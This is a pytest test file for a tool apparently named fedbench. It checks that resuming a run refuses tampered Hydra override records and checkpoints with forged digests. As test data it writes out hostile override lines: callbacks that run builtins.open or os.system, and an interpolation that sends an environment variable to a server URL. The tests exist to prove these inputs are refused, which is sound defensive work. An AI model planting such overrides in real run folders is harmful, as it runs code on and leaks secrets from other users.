"""`fedbench resume` composes only what the run recorded (issue 42, section 1): each checkpoint keeps
the digest of the run folder's record (runs.recorded), and a changed record is refused in one line
before Hydra composes it (an appended hydra callback ran code at the resume)."""

from __future__ import annotations

import re

import pytest
import torch

from tests.faultkit import SMALL, error_lines, fedbench


@pytest.fixture(scope="module")
def finished(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("record")
    run_dir = tmp / "run"
    out = fedbench("run", *SMALL, "rounds=2", "tracking.checkpoint_every=1", f"tracking.uri=sqlite:///{tmp}/m.db",
                   f"hydra.run.dir={run_dir}", cwd=tmp)
    assert out.returncode == 0, out.stderr[-3000:]
    return tmp, run_dir


def appended(run_dir, lines: list[str]) -> None:
    with open(run_dir / ".hydra" / "overrides.yaml", "a") as f:
        f.write("".join(f"- {line}\n" for line in lines))


@pytest.mark.slow
def test_an_appended_hydra_callback_is_refused_and_runs_nothing(finished, tmp_path):
    tmp, run_dir = finished
    saved = (run_dir / ".hydra" / "overrides.yaml").read_text()
    victim = tmp_path / "victim"
    victim.write_text("the user's file\n")
    try:
        appended(run_dir, ["+hydra.callbacks.x._target_=builtins.open", f"+hydra.callbacks.x.file={victim}",
                           "+hydra.callbacks.x.mode=w"])
        out = fedbench("resume", str(run_dir), cwd=tmp)
        assert out.returncode == 2, out.stderr[-3000:]
        [line] = error_lines(out.stderr)
        assert "overrides.yaml (or fedbench.yaml) is not the record this user's fedbench wrote with its checkpoint" in line, line
        assert victim.read_text() == "the user's file\n"
        (run_dir / ".hydra" / "overrides.yaml").write_text(saved.replace("rounds=2", "rounds=5"))  # a value changed
        out = fedbench("resume", str(run_dir), cwd=tmp)
        assert out.returncode == 2 and len(error_lines(out.stderr)) == 1, out.stderr[-3000:]
    finally:
        (run_dir / ".hydra" / "overrides.yaml").write_text(saved)
    out = fedbench("resume", str(run_dir), cwd=tmp)  # its own record: continued (here: already finished)
    assert out.returncode == 0 and "already FINISHED" in out.stderr, out.stderr[-3000:]


@pytest.mark.slow  # >= 10 s on a busy 2-core machine (issue 43: `pytest -m "not slow"` is the quick loop)
def test_the_digest_covers_overrides_and_config_folders_but_not_the_placement(finished):
    from fedbench.core.errors import ConfigError
    from fedbench.runs.recorded import read_overrides, verify

    _, run_dir = finished
    ckpt = run_dir / "checkpoint.pt"
    recorded = read_overrides(run_dir / ".hydra" / "overrides.yaml")
    verify(run_dir, ckpt, recorded, None, [])
    verify(run_dir, ckpt, [*recorded, f"hydra.run.dir={run_dir}", "resume=true"], None, [])  # what a resume adds
    for changed in ([*recorded, "+hydra.callbacks.x._target_=builtins.print"], recorded[1:],
                    [*recorded, "seed=3"]):
        with pytest.raises(ConfigError, match="is not the record this user's fedbench wrote"):
            verify(run_dir, ckpt, changed, None, [])
    with pytest.raises(ConfigError, match="is not the record this user's fedbench wrote"):
        verify(run_dir, ckpt, recorded, None, ["/elsewhere"])
    with pytest.raises(ConfigError, match="is not the record this user's fedbench wrote"):
        verify(run_dir, ckpt, recorded, "/elsewhere", [])


@pytest.mark.parametrize("saved", ["none", "unkeyed"])
def test_a_checkpoint_without_a_keyed_digest_takes_no_hydra_settings_and_no_code(finished, tmp_path, saved):
    """An earlier version's checkpoint (no digest, or the unkeyed one): the config hash still ties the run's
    values; Hydra's settings and `_target_` entries, which run code before any check, are refused unless trusted."""
    from fedbench.core.errors import ConfigError
    from fedbench.runs.recorded import read_overrides, unkeyed_digest, verify

    _, run_dir = finished
    recorded = read_overrides(run_dir / ".hydra" / "overrides.yaml")
    payload = torch.load(run_dir / "checkpoint.pt", weights_only=True)
    old = tmp_path / "checkpoint.pt"
    for lines in (recorded, [*recorded, "+hydra.callbacks.x._target_=builtins.print"],
                  [*recorded, "algorithm._target_=os.system"]):
        if saved == "none":
            payload.pop("recorded_digest", None)
        else:
            payload["recorded_digest"] = unkeyed_digest(lines, None, [])
        torch.save(payload, old)
        if lines is recorded:
            verify(run_dir, old, lines, None, [])
            continue
        with pytest.raises(ConfigError, match=f"sets '{lines[-1].replace('+', '.')}'.* use fedbench resume --trust"):
            verify(run_dir, old, lines, None, [])
        verify(run_dir, old, lines, None, [], trust=True)


@pytest.mark.parametrize("saved", ["none", "unkeyed"])
def test_a_checkpoint_without_a_keyed_digest_takes_no_interpolation_and_no_config_folder(finished, tmp_path, saved):
    """A handed-over folder of an earlier version's checkpoint: `tracking.uri=http://host/${oc.env:SECRET}` sent this
    user's variable to a server of the folder's choosing, and a config folder it names (FEDBENCH_CONF, --config-dir)
    composed its files' hydra.callbacks. Each is refused unless trusted."""
    from fedbench.core.errors import ConfigError
    from fedbench.runs.recorded import read_overrides, unkeyed_digest, verify

    _, run_dir = finished
    recorded = read_overrides(run_dir / ".hydra" / "overrides.yaml")
    payload = torch.load(run_dir / "checkpoint.pt", weights_only=True)
    old = tmp_path / "checkpoint.pt"
    leak = [*recorded, "tracking.uri=http://127.0.0.1:9/${oc.env:HOME}"]
    for lines, conf, dirs, needle in ((leak, None, [], "an interpolation"),
                                      (recorded, str(tmp_path), [], f"names the config folder {tmp_path}"),
                                      (recorded, None, [str(tmp_path)], f"names the config folder {tmp_path}")):
        if saved == "none":
            payload.pop("recorded_digest", None)
        else:
            payload["recorded_digest"] = unkeyed_digest(lines, conf, dirs)
        torch.save(payload, old)
        with pytest.raises(ConfigError, match=f"{re.escape(needle)}.* use fedbench resume --trust"):
            verify(run_dir, old, lines, conf, dirs)
        verify(run_dir, old, lines, conf, dirs, trust=True)


def test_a_record_signed_with_another_key_is_refused_unless_trusted(finished, tmp_path, monkeypatch):
    """Whoever can write the folder can write its checkpoint: a digest recomputed there (another user's key, or
    the unkeyed sha256 of an earlier version over a record with code in it) does not pass; this user's own does."""
    from fedbench.core.errors import ConfigError
    from fedbench.runs import recorded as rec

    _, run_dir = finished
    lines = [*rec.read_overrides(run_dir / ".hydra" / "overrides.yaml"), "+hydra.callbacks.x._target_=torch.load"]
    payload = torch.load(run_dir / "checkpoint.pt", weights_only=True)
    forged = tmp_path / "checkpoint.pt"
    monkeypatch.setenv(rec.KEY_ENV, str(tmp_path / "theirs.key"))  # another user's fedbench
    payload["recorded_digest"] = rec.digest(lines, None, [])
    torch.save(payload, forged)
    monkeypatch.undo()
    with pytest.raises(ConfigError, match="written by another user or machine .* fedbench resume --trust"):
        rec.verify(run_dir, forged, lines, None, [])
    rec.verify(run_dir, forged, lines, None, [], trust=True)
    payload["recorded_digest"] = rec.digest(lines, None, [])  # this user's: what their own fedbench writes
    torch.save(payload, forged)
    rec.verify(run_dir, forged, lines, None, [])


def test_the_record_key_is_made_once_for_the_user_alone_and_a_readable_one_is_refused(tmp_path, monkeypatch):
    import os
    import stat

    from fedbench.core.errors import ConfigError
    from fedbench.runs import recorded as rec

    monkeypatch.delenv(rec.KEY_ENV, raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    key = rec.record_key()
    path = tmp_path / "config" / "fedbench" / "record.key"
    assert len(key) == 32 and path.read_bytes() == key and stat.S_IMODE(path.stat().st_mode) == 0o600
    assert rec.record_key() == key and sorted(p.name for p in path.parent.iterdir()) == ["record.key"]
    assert rec.digest(["a=1"], None, []) != rec.unkeyed_digest(["a=1"], None, [])
    os.chmod(path, 0o644)  # others could read it and forge records
    with pytest.raises(ConfigError, match="is not this user's record key .* mode 600"):
        rec.record_key()
    path.unlink()
    path.symlink_to(tmp_path / "elsewhere.key")
    with pytest.raises(ConfigError, match="cannot read this user's record key"):
        rec.record_key()
    assert not (tmp_path / "elsewhere.key").exists()


@pytest.mark.parametrize("every, why", [(0, "started with tracking.checkpoint_every=0, it writes none but a stop signal's"),
                                        (10, "stopped before its first checkpoint")])
def test_resuming_a_folder_without_a_checkpoint_says_why_it_has_none(tmp_path, every, why):
    """A run started with checkpoints off keeps none, finished or not: the refusal says so rather than that it
    stopped early."""
    from fedbench.cli.run import resume
    from fedbench.core.errors import ConfigError

    (tmp_path / ".hydra").mkdir()
    (tmp_path / ".hydra" / "overrides.yaml").write_text("- rounds=2\n")
    (tmp_path / ".hydra" / "config.yaml").write_text(f"rounds: 2\ntracking:\n  checkpoint_every: {every}\n")
    with pytest.raises(ConfigError) as info:
        resume(tmp_path)
    assert str(info.value) == f"{tmp_path} has no checkpoint.pt ({why}); start the run again"


def test_without_a_home_to_keep_a_key_runs_record_no_digest_and_resume_takes_only_plain_records(tmp_path, monkeypatch):
    """A system user's home (/nonexistent) or a read-only one: no key can be made, so runs record no digest (they
    ran with a traceback at every start), and a resume composes such a record only without Hydra settings or
    code, as an earlier version's."""
    from fedbench.core.errors import ConfigError
    from fedbench.runs import recorded as rec

    monkeypatch.delenv(rec.KEY_ENV, raising=False)
    home = tmp_path / "home"
    home.mkdir(mode=0o500)  # read-only
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    if rec.record_key() is not None:  # root writes anywhere: a path under a file stands for a home it cannot write
        (tmp_path / "file").write_text("")
        monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "file" / ".config"))
    assert rec.record_key() is None and rec.digest(["a=1"], None, []) is None
    from fedbench.runs.api import record_tags

    assert "recorded_digest" not in record_tags(["a=1"])
    run_dir = tmp_path / "run"
    payload = {"round": 1}
    torch.save(payload, tmp_path / "checkpoint.pt")
    rec.verify(run_dir, tmp_path / "checkpoint.pt", ["rounds=2"], None, [])
    with pytest.raises(ConfigError, match="predates the keyed record"):
        rec.verify(run_dir, tmp_path / "checkpoint.pt", ["rounds=2", "+hydra.callbacks.x._target_=torch.load"], None, [])
